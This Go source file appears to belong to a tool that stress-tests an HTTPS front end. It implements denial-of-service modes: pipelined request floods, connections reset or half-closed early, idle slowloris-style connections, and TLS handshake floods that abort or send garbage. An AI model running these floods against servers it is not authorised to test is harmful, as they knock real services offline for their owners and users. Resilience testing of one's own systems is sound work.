package main

import (
	"crypto/tls"
	"errors"
	"io"
	"net"
	"strings"
	"time"
)

// pipelining sends many requests of HTTP/1.1 in one write.
func pipelining(a *attack) any {
	return a.onEachConnection(func(int) error {
		conn, err := a.tls(0, "http/1.1")
		if err != nil {
			return err
		}
		defer conn.Close()
		all := strings.Repeat(a.head("POST", "content-length: 2")+"{}", a.streams)
		began := time.Now()
		go func() { _, _ = io.WriteString(conn, all) }()
		_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
		return a.countAnswers(conn, began)
	})
}

// earlyClose closes each connection right after a request: by RST, or with the variant `half` the sending side only.
// -whole requests are complete.
func earlyClose(a *attack) any {
	request := a.head("POST", "content-length: 1000") + "{"
	if a.whole {
		request = a.head("POST", "content-length: 2") + "{}"
	}
	return a.onEachConnection(func(int) error {
		plain, err := a.tcp(0)
		if err != nil {
			return err
		}
		conn := tls.Client(plain, a.tlsConfig("http/1.1"))
		defer conn.Close()
		if err := conn.HandshakeContext(a.ctx); err != nil {
			return err
		}
		began := time.Now()
		if _, err := io.WriteString(conn, request); err != nil {
			return err
		}
		a.add("requests")
		if a.variant == "half" {
			// Both closings, that of TLS and that of TCP.
			_ = conn.CloseWrite()
			_ = plain.(*net.TCPConn).CloseWrite()
			return a.countAnswers(conn, began)
		}
		_ = plain.(*net.TCPConn).SetLinger(0)
		return plain.Close()
	})
}

// idle opens connections that send nothing: after TCP's handshake, with the variant `tls` after that of TLS, with `request` after one
// request, with `h2` after the settings of HTTP/2. Connections that the front closes are opened again.
func idle(a *attack) any {
	return a.onEachConnection(func(int) error {
		if a.variant == "h2" {
			s, err := a.session(0)
			if err != nil {
				return err
			}
			defer s.conn.Close()
			a.add("open")
			return s.wait()
		}
		conn, err := a.idleConnection()
		if err != nil {
			return err
		}
		defer conn.Close()
		a.add("open")
		if _, err = io.Copy(io.Discard, conn); err == nil {
			err = io.EOF
		}
		return err
	})
}

func (a *attack) idleConnection() (net.Conn, error) {
	switch a.variant {
	case "tls":
		return a.tls(0, "http/1.1")
	case "request":
		conn, err := a.tls(0, "http/1.1")
		if err == nil {
			// Not a score: 5,000 of those are another attack.
			_, err = io.WriteString(conn, strings.Replace(a.head("GET"), a.path, "/idle", 1))
		}
		return conn, err
	}
	return a.tcp(0)
}

// handshakes opens connections at a constant rate and closes each after its handshake, or with the variant `abort` after the
// ClientHello, or with `garbage` after bytes that are no TLS.
func handshakes(a *attack) any {
	return a.onEachConnection(func(int) error {
		began := time.Now()
		for n := 0; a.tick(began, n); n++ {
			if err := a.handshake(); err != nil {
				a.add("failed: " + reason(err))
			} else {
				a.add("handshakes")
			}
		}
		return nil
	})
}

func (a *attack) handshake() error {
	conn, err := a.tcp(0)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(5 * time.Second))
	switch a.variant {
	case "abort":
		client := tls.Client(oneWrite{conn}, a.tlsConfig("http/1.1"))
		if err := client.HandshakeContext(a.ctx); !errors.Is(err, errAborted) {
			return err
		}
		return nil
	case "garbage":
		_, err := io.WriteString(conn, strings.Repeat("\x16\x03\x01\xff\xff", 200))
		return err
	}
	return tls.Client(conn, a.tlsConfig("http/1.1")).HandshakeContext(a.ctx)
}

var errAborted = errors.New("aborted")

// oneWrite is a connection whose owner gives up after the first write: the ClientHello.
type oneWrite struct{ net.Conn }

func (oneWrite) Read([]byte) (int, error) { return 0, errAborted }
